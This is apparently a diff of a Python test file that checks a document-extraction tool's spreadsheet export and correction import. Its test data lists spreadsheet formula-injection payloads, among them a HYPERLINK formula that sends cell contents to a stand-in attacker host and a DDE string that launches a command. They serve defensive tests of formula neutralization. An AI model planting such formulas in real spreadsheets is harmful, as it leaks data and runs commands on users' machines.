@@ -18,7 +18,7 @@ from extractor.fakeserver import FakeOpenAI
 from extractor.spreadsheets import ExportConfig, ImportConfig, export, import_corrections
 from extractor.store import Labels
 
-from .conftest import ROOT, make_config, write_docs
+from .conftest import make_config, settings, write_docs
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"click me")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -42,7 +42,7 @@ def exported(tmp_path: Path, fake_server: FakeOpenAI) -> tuple[Path, ExportConfi
     })
     config = make_config(tmp_path, fake_server)
     runner.run(config)
-    export_config = ExportConfig(schema="cover_letter", schemas_dir=ROOT / "schemas", output_dir=tmp_path / "out")
+    export_config = ExportConfig(settings=settings(tmp_path / "out"))
     return export(export_config), export_config
 
 
@@ -84,8 +84,7 @@ def test_xlsx_is_typed_flat_and_formula_free(exported: tuple[Path, ExportConfig]
 
 def test_csv_neutralizes_formula_triggers(exported: tuple[Path, ExportConfig]) -> None:
     _, config = exported
-    path = export(ExportConfig(schema=config.schema, schemas_dir=config.schemas_dir, output_dir=config.output_dir,
-                               fmt="csv"))
+    path = export(ExportConfig(settings=config.settings, fmt="csv"))
     with path.open(newline="", encoding="utf-8") as fh:
         rows = {r["doc_id"]: r for r in csv.DictReader(fh)}
     evil = rows["evil.txt"]
@@ -147,8 +146,7 @@ def test_corrections_become_labels_and_show_in_the_next_export(exported: tuple[P
         ("bob.txt", "notice_period_days"): "soon",  # not a number: rejected
         ("-dash.txt", "years_experience"): "=1+1",  # a formula typed by a person: rejected
     }, extra_row=["ghost.txt", "ok"])
-    report = import_corrections(ImportConfig(file=path, schema="cover_letter", schemas_dir=config.schemas_dir,
-                                             output_dir=config.output_dir))
+    report = import_corrections(ImportConfig(settings=config.settings, file=path))
     assert sorted(report.applied) == [("ada.txt", "applicant_name"), ("ada.txt", "salary"), ("ada.txt", "skills"),
                                       ("bob.txt", "seniority")]
     assert report.unknown_docs == ["ghost.txt"]
@@ -157,7 +155,7 @@ def test_corrections_become_labels_and_show_in_the_next_export(exported: tuple[P
     assert any("bob.txt / notice_period_days" in m and "valid integer" in m for m in report.rejected)
     assert any("-dash.txt / years_experience" in m and "formulas are not accepted" in m for m in report.rejected)
     assert report.exit_code == 1
-    labels = Labels(config.output_dir / "cover_letter" / "journal.sqlite3")
+    labels = Labels(config.settings.output_dir / "cover_letter" / "journal.sqlite3")
     try:
         stored = labels.latest()
     finally:
@@ -170,15 +168,13 @@ def test_corrections_become_labels_and_show_in_the_next_export(exported: tuple[P
     assert rows["ada.txt"]["applicant_name"].value == "Augusta Ada King"
     assert rows["ada.txt"]["corrected"].value == "applicant_name; salary; skills"
     assert rows["evil.txt"]["corrected"].value is None
-    unchanged = import_corrections(ImportConfig(file=again, schema="cover_letter", schemas_dir=config.schemas_dir,
-                                                output_dir=config.output_dir))
+    unchanged = import_corrections(ImportConfig(settings=config.settings, file=again))
     assert unchanged.applied == [] and unchanged.rejected == [] and unchanged.rows_read == 5
 
 
 def test_csv_corrections_and_cli(exported: tuple[Path, ExportConfig], tmp_path: Path) -> None:
     _, config = exported
-    path = export(ExportConfig(schema=config.schema, schemas_dir=config.schemas_dir, output_dir=config.output_dir,
-                               fmt="csv"))
+    path = export(ExportConfig(settings=config.settings, fmt="csv"))
     with path.open(newline="", encoding="utf-8") as fh:
         reader = csv.DictReader(fh)
         rows = list(reader)
@@ -193,8 +189,9 @@ def test_csv_corrections_and_cli(exported: tuple[Path, ExportConfig], tmp_path: 
         writer.writeheader()
         writer.writerows(rows)
     cli = subprocess.run(
-        [sys.executable, "-m", "extractor", "import-corrections", str(path), "--output", str(config.output_dir),
-         "--schemas", str(config.schemas_dir)], capture_output=True, text=True, timeout=60)
+        [sys.executable, "-m", "extractor", "import-corrections", str(path),
+         "--output", str(config.settings.output_dir), "--schemas", str(config.settings.schemas_dir)],
+        capture_output=True, text=True, timeout=60)
     assert cli.returncode == 1
     assert "stored  bob.txt / remote_preference" in cli.stdout
     assert "evil.txt / seniority" in cli.stderr and "'boss'" in cli.stderr
@@ -204,7 +201,7 @@ def test_csv_corrections_and_cli(exported: tuple[Path, ExportConfig], tmp_path: 
 def test_summary_sheet_shows_agreement_when_measured(tmp_path: Path, fake_server: FakeOpenAI) -> None:
     write_docs(tmp_path / "in", {f"d{i}.txt": f"Letter {i} [[vary:seniority=senior|senior|mid]]" for i in range(2)})
     runner.run(make_config(tmp_path, fake_server, samples=3))
-    path = export(ExportConfig(schema="cover_letter", schemas_dir=ROOT / "schemas", output_dir=tmp_path / "out"))
+    path = export(ExportConfig(settings=settings(tmp_path / "out")))
     summary = {r[0].value: r[1].value for r in openpyxl.load_workbook(path)["summary"].iter_rows(min_row=2)}
     assert summary["sampled documents"] == 2
     assert summary["agreement seniority"] == pytest.approx(2 / 3, abs=1e-6)
